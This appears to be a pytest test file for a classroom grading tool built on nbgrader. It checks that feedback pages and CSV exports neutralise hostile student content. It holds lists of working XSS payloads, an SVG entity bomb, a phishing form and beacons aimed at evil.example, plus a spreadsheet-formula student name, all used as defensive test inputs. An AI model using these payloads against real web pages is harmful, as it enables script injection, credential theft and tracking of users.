"""Reports on a class: what they count, what they must not show, and what grading again does."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.api import Gradebook

from course_lib.checking import registry
from course_lib.checking.judging import LOOK_AT
from course_lib.grading import command, report_pages, report_preview
from course_lib.grading.classroom import Classroom, fill, solution_answers
from course_lib.grading.gradebook import Course
from course_lib.grading.plan import Plan
from course_lib.grading.receipts import Receipt, differences, read_receipt
from course_lib.grading.report import Booked, Mark, Report, Row, cells_csv, grades_csv, page
from course_lib.grading.report_checks import (
    UNANSWERED,
    UNNAMED,
    differing,
    lone_failures,
    misconceptions,
    same_for_all,
    slow_checks,
)
from course_lib.grading.report_pages import write_pages
from course_lib.grading.report_preview import compare, lines
from course_lib.grading.report_safe import (
    MOST_TAGS,
    safe_html,
    safe_markdown,
    safe_notebook,
    safe_svg,
)
from course_lib.grading.report_words import for_student, line_of_points, mistakes_named, slim, todo
from course_lib.paths import course_root

pytestmark = [
    pytest.mark.timeout(300),
    # nbgrader's own way with SQLAlchemy's sessions.
    pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning"),
]
ROOT = course_root()
WIDGET = "application/vnd.jupyter.widget-view+json"
PNG = base64.b64encode(b"\x89PNG picture").decode()


def receipt(student="ada", kind="SCORE", **more) -> Receipt:
    return Receipt(student, "05_adam", "k", "s", "n", "a", "e", {"cell_seconds": 30.0}, "x", kind, **more)  # fmt: skip


# --- what pages may hold ------------------------------------------------------------------------


class Elements(HTMLParser):
    """Every element and attribute that a browser would make of a text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attributes]

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text += data


ACTIVE = {
    "script", "iframe", "frame", "object", "embed", "form", "input", "button", "meta", "link", "base", "style",
    "svg", "math", "video", "audio", "source", "applet", "template", "textarea", "select", "portal", "dialog",
    "animate", "set", "foreignobject",
}  # fmt: skip


def active(html: str) -> list[str]:
    """What in a text would run, load something or send something."""
    found = Elements(html)
    bad = [tag for tag in found.tags if tag.lower() in ACTIVE]
    for tag, name, value in found.attributes:
        plain = re.sub(r"[\x00-\x20]", "", value).lower()
        if name.lower().startswith("on") or name in ("srcdoc", "formaction", "ping", "srcset"):
            bad.append(f"{tag} {name}")
        if "script:" in plain or plain.startswith("data:text"):
            bad.append(f"{tag} {name}={value}")
        if name == "src" and not plain.startswith("data:image/"):
            bad.append(f"{tag} {name}={value}")
        if name == "style" and ("url" in plain or "expression" in plain or "position" in plain):
            bad.append(f"{tag} {name}={value}")
    return bad


HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<scr<script>x</script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/seen.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<b onmouseover=alert(1)>b</b>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' java\nscript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:x'>a</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body {display: none}</style>",
    "<p style='background: url(https://evil.example/x)'>p</p>",
    "<p style='background-color: u\\72l(https://evil.example/x)'>p</p>",
    "<p style='position: fixed; top: 0; left: 0; width: 100%; height: 100%'>p</p>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<details ontoggle=alert(1) open>d</details>",
    "<video src=x onerror=alert(1)></video>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p title='&quot;><script>alert(1)</script>'>p</p>",
    "</pre></div></body><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
]


@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_nothing_in_html_is_active(html: str) -> None:
    assert active(safe_html(html)) == []
    assert active(safe_html(f"before {html * 3} after")) == []


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "part", ["<svg ", "<b>", "<table>", "<a href=x>", "</p><p>", "<script>", "<", "<!--", "&"]
)
def test_no_output_takes_for_ever(part: str) -> None:
    for size in (MOST_TAGS - 1, 10**6):
        assert active(safe_html(part * size)) == []


def test_what_a_script_holds_is_not_left_as_text() -> None:
    html = "a<style>p {}</style>b<script>if (1 < 2) x()</script >c<svg><title>t</title><path/></svg>d<title>e"
    assert safe_html(html) == "abcde"


def test_active_content_is_recognised() -> None:
    assert sum(bool(active(html)) for html in HOSTILE_HTML) > 25
    assert active("<p>x</p>") == []


def test_what_is_honest_in_html_stays() -> None:
    table = '<table class="dataframe"><tr><th scope="row">α</th><td style="text-align: right;">0.1</td></tr></table>'
    assert safe_html(table).replace("<tbody>", "").replace("</tbody>", "") == table
    assert safe_html("a &lt; b &amp; <b>c</b>") == "a &lt; b &amp; <b>c</b>"
    picture = f'<img alt="loss" src="data:image/png;base64,{PNG}">'
    assert safe_html(picture) == picture
    assert 'href="https://example.org/x"' in safe_html('<a href="https://example.org/x">x</a>')


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {}>{}'
    '<path d="M 0 0 L 1 1" style="fill: none; clip-path: url(#c)"/></svg>'
)


@pytest.mark.parametrize(
    ("attribute", "content"),
    [
        ("", "<script>alert(1)</script>"),
        ('onload="alert(1)"', ""),
        ("", "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><p>x</p></body></foreignObject>"),
        ("", "<a xlink:href='javascript:alert(1)'><text>x</text></a>"),
        ("", "<set attributeName='onmouseover' to='alert(1)'/>"),
        ("", "<use href='https://evil.example/x.svg#a'/>"),
        ("", "<image xlink:href='https://evil.example/x.png'/>"),
        ("", "<rect style='fill: url(https://evil.example/x)'/>"),
        ("", "<style>@import url(https://evil.example/x.css);</style>"),
        ("", "<g><g><script>alert(1)</script></g></g>"),
    ],
)  # fmt: skip
def test_nothing_in_a_drawing_is_active(attribute: str, content: str) -> None:
    left = safe_svg(SVG.format(attribute, content))
    assert not re.search(r"script|alert|evil|onload|foreign|@import", left)
    assert 'd="M 0 0 L 1 1"' in left
    assert "url(#c)" in left


def test_what_is_no_drawing_is_left_out() -> None:
    bomb = '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>'
    assert [safe_svg(one) for one in (bomb, "<svg", "<p>x</p>", "")] == [None] * 4


def _figure() -> str:
    from matplotlib.figure import Figure

    figure = Figure()
    figure.subplots().plot([1, 2])
    out = io.StringIO()
    figure.savefig(out, format="svg")
    return out.getvalue()


def test_a_drawing_of_matplotlib_keeps_its_lines() -> None:
    drawn = _figure()
    assert safe_svg(drawn).count("<path") == drawn.count("<path") > 5


def hostile_notebook() -> nbformat.NotebookNode:
    """Every way in which an output or a cell reaches the page."""
    html = "".join(HOSTILE_HTML)
    outputs = [
        new_output("display_data", data={"text/html": html}),
        new_output("display_data", data={"text/html": html}, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", data={"application/javascript": "alert(1)"}),
        new_output("display_data", data={"text/markdown": html + "\n\n[x](javascript:alert(1))"}),
        new_output("display_data", data={"text/latex": html}),
        new_output("display_data", data={"image/svg+xml": SVG.format('onload="alert(1)"', "<script>a</script>")}),
        new_output("display_data", data={"image/png": '"><script>alert(1)</script>'}),
        new_output("display_data", data={"image/png": PNG}, metadata={"image/png": {"width": "1 onload=alert(1)"}}),
        new_output("display_data", data={"image/png": PNG}, metadata={"filenames": {"image/png": "https://evil.example"}}),
        new_output("display_data", data={WIDGET: {"model_id": "</script>"}, "text/plain": "x"}),
        new_output("display_data", data={"text/vnd.mermaid": html}),
        new_output("stream", name="stdout", text=html),
        new_output("error", ename=html, evalue=html, traceback=[html]),
        new_output("execute_result", data={"text/plain": html}),
    ]  # fmt: skip
    cells = [
        new_code_cell(html, outputs=outputs, metadata={"tags": ['"><script>alert(1)</script>']}),
        new_markdown_cell(html + "\n\n[x](javascript:alert(1)) ![](https://evil.example/x.png) $a<b$"),
        new_raw_cell(html, metadata={"raw_mimetype": "text/html"}),
        new_raw_cell(html),
        new_code_cell("1", metadata={"nbgrader": {"grade_id": '"><script>alert(1)</script>', "comment": "x",
                      "grade": False, "solution": False, "locked": True, "schema_version": 3}}),
    ]  # fmt: skip
    widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "x": "</script><script>alert(1)"}
    }
    return new_notebook(cells=cells, metadata={"widgets": widgets, "title": "</title><script>x"})


def test_a_hostile_notebook_becomes_a_harmless_page() -> None:
    exporter = HTMLExporter(template_name="classic", filters={"markdown2html": safe_markdown})
    stock, _ = HTMLExporter(template_name="classic").from_notebook_node(hostile_notebook())
    clean, _ = exporter.from_notebook_node(safe_notebook(hostile_notebook()))
    empty, _ = exporter.from_notebook_node(new_notebook())
    assert "alert(1)</script>" in stock
    # What nbconvert's own page holds (MathJax, styles) stands in the empty one, too.
    assert sorted(active(clean)) == sorted(active(empty))
    assert f"data:image/png;base64,{PNG}" in clean
    assert "$a&lt;b$" in clean


def test_what_is_no_picture_is_left_out() -> None:
    output = new_output("display_data", data={"image/png": '"><script>', "text/plain": "a picture"})
    text = new_markdown_cell("![](attachment:a.png)")
    text.attachments = {
        "a.png": {"image/svg+xml": PNG, "image/png": PNG, "text/html": PNG},
        "b.png": {"image/png": '"><script>'},
        "c.svg": {"image/svg+xml": PNG},
    }
    clean = safe_notebook(new_notebook(cells=[new_code_cell("", outputs=[output]), text]))
    assert clean.cells[0].outputs[0].data == {"text/plain": "a picture"}
    assert clean.cells[1].attachments == {"a.png": {"image/png": PNG}}


def test_one_page_that_cannot_be_made_costs_no_other(tmp_path: Path, capsys, monkeypatch) -> None:
    def make(root: Path, unit: str, notebook: str, student: str, path: Path, stamp: str) -> None:
        if student == "done":
            raise KeyError("state")
        path.write_text("page", encoding="utf-8")

    monkeypatch.setattr(report_pages, "_make", make)
    (tmp_path / "gone.html").write_text("of somebody who has no grade any more", encoding="utf-8")
    write_pages(SimpleNamespace(root=tmp_path), small_class(), tmp_path, workers=1)
    made = {path.stem for path in tmp_path.glob("*.html")}
    assert made == {"again", "waits", "zero", "held", "=cmd()"}
    assert "no page for done: KeyError" in capsys.readouterr().err


def test_the_formgrader_s_pages_are_as_harmless(tmp_path: Path) -> None:
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    config = Course(tmp_path).config
    config.HTMLExporter.template_name = "classic"
    html, _ = HTMLExporter(config=config).from_notebook_node(hostile_notebook())
    empty, _ = HTMLExporter(config=config).from_notebook_node(new_notebook())
    assert sorted(active(html)) == sorted(active(empty))


# --- what is counted ----------------------------------------------------------------------------

STEP = registry.exercise("adam_step")
FIRST, SECOND = (one.sentence for one in STEP.mistakes[:2])


def told(*sentences: str) -> str:
    lines = [f"  {sentence}" for sentence in sentences]
    return "\n".join(["theta is wrong: expected 1, got 2", f"{LOOK_AT}line 3: `x = 1`", *lines])


def test_the_mistakes_that_were_named() -> None:
    assert mistakes_named("adam_step", "t = 5", told(FIRST)) == [FIRST]
    both = told(f"Two things at once. First: {SECOND} Second: {FIRST}")
    assert set(mistakes_named("adam_step", "t = 5", both)) == {FIRST, SECOND}
    assert mistakes_named("adam_step", "t = 5", told()) == []
    assert (
        mistakes_named("adam_step", "t = 5", f"ValueError: {FIRST}") == []
    )  # a student's own words
    assert mistakes_named("gone", "t = 5", told(FIRST)) == []
    assert len(mistakes_named("adam_step", "inputs untouched", "your function …")) == 1


def failing(student: str, *labels: str, sentence: str = "", size: int = 4, **more) -> Receipt:
    rows = [["adam_step", label, told(*([sentence] if sentence else []))] for label in labels]
    asked = [["adam_step", "visible", 2.0, size, 0.01, 10.0]]
    scores = {"step": 2.0 - 0.5 * len(rows)}
    return receipt(student, checks={"step": rows}, asked={"step": asked}, scores=scores, **more)


def test_misconceptions_count_students_once() -> None:
    found = misconceptions(
        [
            failing("a", "t = 1", "t = 2", sentence=FIRST),
            failing("b", "t = 1", sentence=FIRST),
            failing("c", "t = 1", sentence=SECOND),
            failing("d", "t = 1"),
            failing("e", "t = 1", unanswered=["adam_step"]),
            failing("f"),
        ]
    )
    assert [(one.sentence, one.students) for one in found] == [
        (FIRST, ["a", "b"]), (SECOND, ["c"]), (UNNAMED, ["d"]), (UNANSWERED, ["e"]),
    ]  # fmt: skip


def test_slow_checks_are_those_past_half_of_their_limit() -> None:
    quick, slow = failing("a"), failing("b")
    quick.asked["step"][0][4], slow.asked["step"][0][4] = 5.0, 5.1
    slow.asked["other"] = [["adam_step", "visible", 2.0, 4, 5.05, 10.0]]
    (one,) = slow_checks([quick, slow])
    assert (one.students, one.worst, one.limit, one.part) == (["b"], 5.1, 10.0, "visible")


def test_points_that_differ_between_two_gradings() -> None:
    before = receipt(scores={"step": 2.0, "other": 1.0, "text": None})
    assert differences(None, {"step": 1.0}) == {}
    assert differences(before, {"step": 2.0, "other": 1.0, "text": None}) == {}
    met = receipt(differed=differences(before, {"step": 1.0, "other": 1.0}), scores={"step": 1.0})
    assert met.differed == {"step": [1.0, 2.0]}
    assert differences(met, {"step": 1.0}) == {"step": [1.0, 2.0]}  # once seen, never forgotten
    assert [(one.cell, one.points) for one in differing([met])] == [("step", [1.0, 2.0])]


def test_a_sub_check_that_nearly_everybody_fails_alone_looks_unfair() -> None:
    receipts = [failing(f"s{k}", f"seed = {k}") for k in range(8)]
    receipts += [failing("right"), failing("wrong", "one", "two", "three", "seed = 9")]
    (one,) = lone_failures(receipts)
    assert one.unfair
    assert (one.label, len(one.alone), one.failed, one.answered) == ("seed = …", 8, 9, 10)
    (rare,) = lone_failures(
        [failing("a", "seed = 1", sentence=FIRST), *(failing(n) for n in "bcd")]
    )
    assert (rare.unfair, rare.named, rare.alone) == (False, 1, ["a"])


def test_who_did_not_answer_says_nothing_about_a_check() -> None:
    assert lone_failures([failing("a", "t = 1", unanswered=["adam_step"])]) == []
    assert lone_failures([failing("a", "t = 1", size=1)]) == []  # there was nothing else to pass


def test_a_short_receipt_counts_the_same() -> None:
    full = [failing("a", "t = 1", "t = 2", sentence=FIRST), failing("b", "t = 1"), failing("c")]
    before = misconceptions(full), [(one.label, one.named) for one in lone_failures(full)]
    assert before == (
        misconceptions(map(slim, full)), [(one.label, one.named) for one in lone_failures(full)],
    )  # fmt: skip


def test_what_to_do_about_a_hold() -> None:
    assert "Mend or replace the file in submitted/ada/05_adam" in todo(receipt(kind="HOLD"))
    own = receipt(
        kind="HOLD", student_reasons=["It could not be graded yet; this is not your fault."]
    )
    assert todo(own).startswith("Grade it again: course grade 05_adam --students ada.")


def test_labels_are_the_same_for_all() -> None:
    assert same_for_all("12 steps, β₁ = 0.5, ε = 1e-08") == "12 steps, β₁ = …, ε = …"


def test_a_line_explains_the_points() -> None:
    assert line_of_points(failing("a"), "step", 2.0) == "2 of 2 points: every sub-check passed."
    line = line_of_points(failing("a", "t = 1", "t = 2", sentence=FIRST), "step", 2.0)
    assert line == f"1 of 2 points. adam_step, 2 of 4 sub-checks failed: {FIRST}"
    plain = line_of_points(failing("a", "t = 1"), "step", 2.0)
    elsewhere = failing("a", "t = 1", sentence=FIRST)
    elsewhere.checks["hidden"] = [["adam_step", "t = 2", told()]]  # named where it was judged first
    assert line_of_points(elsewhere, "hidden", 2.0) == f"0 of 2 points. adam_step, failed: {FIRST}"
    assert plain.endswith("t = 1: theta is wrong: expected 1, got 2.")


def test_a_student_is_told_the_verdict_and_the_repairs_once() -> None:
    one = receipt(kind="ZERO", reasons=["no check passed"], student_reasons=["A note."], notes=["A note."])  # fmt: skip
    assert for_student(one) == ["The checks gave no points: no check passed.", "A note."]


# --- tables and the page ------------------------------------------------------------------------

PLAN = Plan("05_adam", "adam", {}, {"step": 2.0, "text": 3.0}, ("text",), {}, new_notebook())


def small_class() -> Report:
    def row(student: str, auto: float, manual: float | None, kind: str = "SCORE", **more) -> Row:
        marks = {"step": Mark(auto, None), "text": Mark(None, manual, look_again=manual == 2.5)}
        one = receipt(student, kind, scores={"step": auto, "text": None}, seconds=1.0)
        by_hand = ["text"] if manual is None else []
        look = ["text"] if manual == 2.5 else []
        return Row(student, Booked(marks), one, kind, by_hand=by_hand, look_again=look, **more)

    held = receipt("held", "HOLD", reasons=["the file is empty"])
    rows = [
        row("done", 1.0, 2.0),
        row("again", 1.0, 2.5),
        row("waits", 2.0, None),
        row("zero", 0.0, 0.0, "ZERO", reasons=["no check passed"]),
        Row("held", Booked({"step": Mark(2.0, None), "text": Mark(None, 3.0)}), held, "HOLD",
            ["the file is empty"], ["on hold: the file is empty"]),
        Row("absent", Booked(), None, "", ["nothing was handed in"]),
        row("=cmd()", 1.0, 1.0, "FLAG", reasons=["<script>alert(1)</script>", "+1"]),
    ]  # fmt: skip
    return Report(PLAN, rows, [one.receipt for one in rows if one.receipt])


def test_what_is_open_is_empty_and_never_zero() -> None:
    table = {
        row["student_id"]: row for row in csv.DictReader(io.StringIO(grades_csv(small_class())))
    }
    assert {name: row["score"] for name, row in table.items()} == {
        "done": "3", "again": "3.5", "waits": "", "zero": "0", "held": "", "absent": "", "'=cmd()": "2",
    }  # fmt: skip
    assert {row["max_score"] for row in table.values()} == {"5"}
    assert table["waits"]["waits"] == "graded by hand: text"
    assert table["again"]["waits"] == "look again: text"
    assert table["held"]["waits"] == "on hold: the file is empty"
    assert table["absent"]["reason"] == "nothing was handed in"
    assert table["zero"]["verdict"] == "ZERO"


def test_points_of_every_cell() -> None:
    table = {
        row["student_id"]: row for row in csv.DictReader(io.StringIO(cells_csv(small_class())))
    }
    assert (table["waits"]["step"], table["waits"]["text"], table["waits"]["so_far"]) == (
        "2",
        "",
        "2",
    )
    assert (table["held"]["step"], table["held"]["text"], table["held"]["so_far"]) == ("", "", "")
    assert (table["zero"]["step"], table["zero"]["so_far"]) == ("0", "0")


def test_nothing_of_a_table_is_a_formula() -> None:
    for text in (grades_csv(small_class()), cells_csv(small_class())):
        for row in csv.reader(io.StringIO(text)):
            assert not [field for field in row if field[:1] in tuple("=+@-")]


def test_the_page_is_harmless_self_contained_and_readable_by_all() -> None:
    html = page(small_class())
    found = Elements(html)
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)" in html
    assert not re.search(r"(src|href)=[\"'](?!#)|url\(|@import", html)
    assert "color-scheme: light dark" in html
    assert "prefers-color-scheme: dark" in html
    tables = found.tags.count("table")
    assert found.tags.count("caption") == tables >= 4
    scopes = [value for tag, name, value in found.attributes if (tag, name) == ("th", "scope")]
    assert len(scopes) == found.tags.count("th")
    assert set(scopes) == {"row", "col"}
    ids = [value for _, name, value in found.attributes if name == "id"]
    assert len(ids) == len(set(ids))
    labels = {value for _, name, value in found.attributes if name == "aria-labelledby"}
    assert labels <= set(ids)
    assert ("html", "lang", "en") in found.attributes
    for text in (
        "the file is empty",
        "course grade 05_adam --students held",
        "graded by hand: text",
    ):
        assert text in found.text


def test_a_class_without_grades_has_a_page() -> None:
    html = page(Report(PLAN, [], []))
    assert "0 students" in html


# --- who would move -----------------------------------------------------------------------------


def test_who_would_move_and_why() -> None:
    before = receipt(scores={"step": 2.0, "text": None})
    now = failing("ada", "t = 1", "t = 2", sentence=FIRST)
    now.environment, now.scores["text"] = "other", None
    move = compare(Booked({"step": Mark(2.0, None), "text": Mark(None, 3.0)}), before, now)
    assert move.scores == (5.0, 4.0)
    (cell,) = move.cells
    assert (cell.name, cell.before, cell.after, cell.by_hand) == ("step", 2.0, 1.0, False)
    text = "\n".join(lines([move, compare(Booked({"step": Mark(2.0, None)}), before, before)]))
    assert "ada: 5 → 4 points" in text
    assert FIRST in text
    assert "course_lib or a package has changed" in text
    assert "1 of 2 would move." in text
    assert "3.5 → 3 (-0.5)" in text


def test_a_person_s_points_stand() -> None:
    now = failing("ada", "t = 1")
    move = compare(Booked({"step": Mark(2.0, 1.75)}), receipt(scores={"step": 2.0}), now)
    assert move.scores == (1.75, 1.75)
    assert move.cells[0].by_hand
    assert move.reasons == ["nothing has changed: the answer or the check is left to chance"]
    assert "stand and stay" in "\n".join(lines([move]))


def test_holds_have_no_points_in_a_preview() -> None:
    held = receipt(kind="HOLD", reasons=["the file is empty"])
    move = compare(Booked({"step": Mark(2.0, None)}), receipt(scores={"step": 2.0}), held)
    assert (move.kinds, move.scores, move.moves) == (("SCORE", "HOLD"), (2.0, None), True)
    text = "\n".join(lines([move]))
    assert "2 → – points, SCORE → HOLD" in text
    assert "the file is empty" in text
    assert "Mean" not in text


# --- a class ------------------------------------------------------------------------------------

UNIT = "06_adam_vs_sgdm"
NOTEBOOK = "adam_vs_sgdm"
SHOWS = """from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<img src=x onerror=alert(1)><script>alert(2)</script><b>kept</b>"), Javascript("alert(3)"))
display(Markdown("[x](javascript:alert(4)) <script>alert(5)</script>"))
"""


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory, bwrap: str) -> Path:
    """A graded class of four: honest, with hostile outputs, untouched, and an empty file."""
    solution = ROOT / "solutions" / UNIT / f"{NOTEBOOK}.ipynb"
    room = Classroom(tmp_path_factory.mktemp("class"), ROOT, UNIT, solution)
    room.nbgrader("teacher", "generate_assignment", UNIT)
    stub = room.course / "exercises" / UNIT / f"{NOTEBOOK}.ipynb"
    answers = solution_answers(nbformat.read(solution, as_version=4))
    for student in ("empty", "honest", "hostile", "untouched"):
        place = room.course / "submitted" / student / UNIT / stub.name
        place.parent.mkdir(parents=True)
        shutil.copy(stub, place)
        if student in ("honest", "hostile"):
            fill(place, answers)
        if student == "empty":
            place.write_bytes(b"")
    path = room.course / "submitted" / "hostile" / UNIT / stub.name
    notebook = nbformat.read(path, as_version=4)
    notebook.cells.insert(
        0, new_markdown_cell("<script>alert(6)</script> [x](javascript:alert(7))")
    )
    notebook.cells.insert(1, new_code_cell(SHOWS))
    nbformat.write(notebook, path)
    assert command.main(UNIT, room.course, workers=1, feedback=True) == command.HELD
    return room.course


def tree(folder: Path) -> dict[str, str]:
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def read_page(course: Path, student: str) -> str:
    return (course / "graded" / UNIT / "feedback" / f"{student}.html").read_text(encoding="utf-8")


@pytest.mark.heavy
@pytest.mark.sandbox
def test_reports_of_a_class(course: Path) -> None:
    with open(course / "graded" / UNIT / "grades.csv", encoding="utf-8") as file:
        table = {row["student_id"]: row for row in csv.DictReader(file)}
    assert {name: row["verdict"] for name, row in table.items()} == {
        "empty": "HOLD", "honest": "SCORE", "hostile": "SCORE", "untouched": "ZERO",
    }  # fmt: skip
    assert table["empty"]["score"] == ""
    assert (
        table["untouched"]["score"] == "0"
    )  # a written answer that was not touched is settled, too
    assert table["honest"]["score"] == ""
    assert table["honest"]["waits"].startswith("graded by hand: ")
    assert "empty" in (course / "graded" / UNIT / "report.html").read_text(encoding="utf-8")


@pytest.mark.heavy
@pytest.mark.sandbox
def test_pages_of_a_class(course: Path) -> None:
    honest, hostile = read_page(course, "honest"), read_page(course, "hostile")
    assert "every sub-check passed." in honest
    assert "HIDDEN TESTS" not in honest + hostile
    # What nbgrader's page itself loads is the same on both.
    assert sorted(active(hostile)) == sorted(active(honest))
    assert not re.search(r"<script>alert|<img src=x|href=.javascript:", hostile)
    assert "<b>kept</b>" in hostile
    assert "not graded yet" in read_page(course, "empty")
    assert "no response" in read_page(course, "untouched")


@pytest.mark.heavy
@pytest.mark.sandbox
def test_nbgrader_s_own_command_is_as_safe(course: Path) -> None:
    room = Classroom.__new__(Classroom)
    room.folder, room.repository, room.unit = course.parent, ROOT, UNIT
    room.notebook, room.course = NOTEBOOK, course
    pages = room.feedback()
    assert sorted(active(pages["hostile"])) == sorted(active(pages["honest"]))
    assert "every sub-check passed." in pages["honest"]
    shutil.rmtree(course / "feedback")


@pytest.mark.heavy
@pytest.mark.sandbox
def test_a_receipt_is_complete(course: Path) -> None:
    one = read_receipt(course, UNIT, "honest")
    handed_in = course / "submitted" / "honest" / UNIT / f"{NOTEBOOK}.ipynb"
    assert one.notebook == hashlib.sha256(handed_in.read_bytes()).hexdigest()
    secret = (course / "graded" / "secret").read_text(encoding="ascii").strip()
    assert one.secret == hashlib.sha256(secret.encode()).hexdigest()
    assert secret not in json.dumps(one.__dict__)
    assert one.limits["cell_seconds"] == 30.0
    assert len(one.environment) == len(one.assignment) == len(one.submission) == 64
    auto = [name for name, points in one.scores.items() if points is not None]
    assert set(one.asked) == set(one.cell_seconds) == set(auto)
    for name in auto:
        assert sum(row[2] for row in one.asked[name]) == pytest.approx(one.scores[name])


@pytest.mark.heavy
@pytest.mark.sandbox
def test_a_run_that_goes_on_and_a_rebuilt_report_are_the_same(course: Path) -> None:
    before = tree(course)
    assert command.main(UNIT, course, workers=1, feedback=True) == command.HELD
    assert tree(course) == before
    shutil.rmtree(course / "graded" / UNIT / "feedback")
    (course / "graded" / UNIT / "report.html").unlink()
    command.write_reports(UNIT, course, workers=1)
    assert tree(course) == before


@pytest.mark.heavy
@pytest.mark.sandbox
def test_preview_writes_nothing_and_regrade_keeps_what_a_person_gave(
    course: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = Course(course).directory.db_url
    written = next(n for n, p in read_receipt(course, UNIT, "honest").scores.items() if p is None)
    checked = next(n for n, p in read_receipt(course, UNIT, "honest").scores.items() if p)
    with Gradebook(url, "optimizers") as book:
        for cell, points in ((written, 1.5), (checked, 0.25)):
            grade = book.find_grade(cell, NOTEBOOK, UNIT, "honest")
            grade.manual_score, grade.needs_manual_grade = points, False
        comment = book.find_comment(written, NOTEBOOK, UNIT, "honest")
        comment.manual_comment = "Well <b>argued</b>. <script>alert(8)</script>"
        book.db.commit()
    command.write_reports(UNIT, course, workers=1)
    assert "Well <b>argued</b>." in read_page(course, "honest")  # the page has the news
    assert "alert(8)" not in read_page(course, "honest")
    # The untouched one is handed in again, with answers.
    place = course / "submitted"
    shutil.copy(place / "honest" / UNIT / f"{NOTEBOOK}.ipynb", place / "untouched" / UNIT)
    before = tree(course)
    capsys.readouterr()
    assert report_preview.main(UNIT, course, workers=1) == command.DONE
    said = capsys.readouterr().out
    assert tree(course) == before
    assert "1 of 4 would move." in said
    assert re.search(r"untouched: 0 → \d+ points, ZERO → SCORE", said)
    assert "handed in again" in said
    with open(course / "graded" / UNIT / "cells.csv", encoding="utf-8") as file:
        old = {row["student_id"]: row for row in csv.DictReader(file)}

    # As if the same had been given other points before.
    path = course / "graded" / UNIT / "receipts" / "honest.json"
    earlier = json.loads(path.read_text(encoding="utf-8"))
    right = earlier["scores"][checked]
    earlier["scores"][checked] = 0.125
    path.write_text(json.dumps(earlier), encoding="utf-8")

    assert command.main(UNIT, course, workers=1, fresh=True, feedback=True) == command.HELD
    assert read_receipt(course, UNIT, "honest").differed == {checked: [0.125, right]}
    text = Elements((course / "graded" / UNIT / "report.html").read_text(encoding="utf-8")).text
    assert "left to chance" in text
    with Gradebook(url, "optimizers") as book:
        for cell, points in ((written, 1.5), (checked, 0.25)):
            assert book.find_grade(cell, NOTEBOOK, UNIT, "honest").manual_score == points
        assert book.find_comment(written, NOTEBOOK, UNIT, "honest").manual_comment == comment_text()
    with open(course / "graded" / UNIT / "cells.csv", encoding="utf-8") as file:
        new = {row["student_id"]: row for row in csv.DictReader(file)}
    assert new["honest"]["so_far"] == old["honest"]["so_far"]
    assert float(new["untouched"]["so_far"]) > 0
    assert "A person has changed this to 0.25." in read_page(course, "honest")
    with open(course / "graded" / UNIT / "grades.csv", encoding="utf-8") as file:
        table = {row["student_id"]: row for row in csv.DictReader(file)}
    assert f"look again: {written}" in table["honest"]["waits"]
    assert table["honest"]["score"] == new["honest"]["so_far"]


def comment_text() -> str:
    return "Well <b>argued</b>. <script>alert(8)</script>"


def test_a_unit_that_was_never_graded_has_no_report(tmp_path: Path, capsys) -> None:
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    (tmp_path / "solutions" / UNIT).mkdir(parents=True)
    shutil.copy(ROOT / "solutions" / UNIT / f"{NOTEBOOK}.ipynb", tmp_path / "solutions" / UNIT)
    assert report_pages.main(UNIT, tmp_path) == 1
    assert "never graded" in capsys.readouterr().err
    assert report_preview.main(UNIT, tmp_path) == command.FAILED
    assert not (tmp_path / "graded").exists()
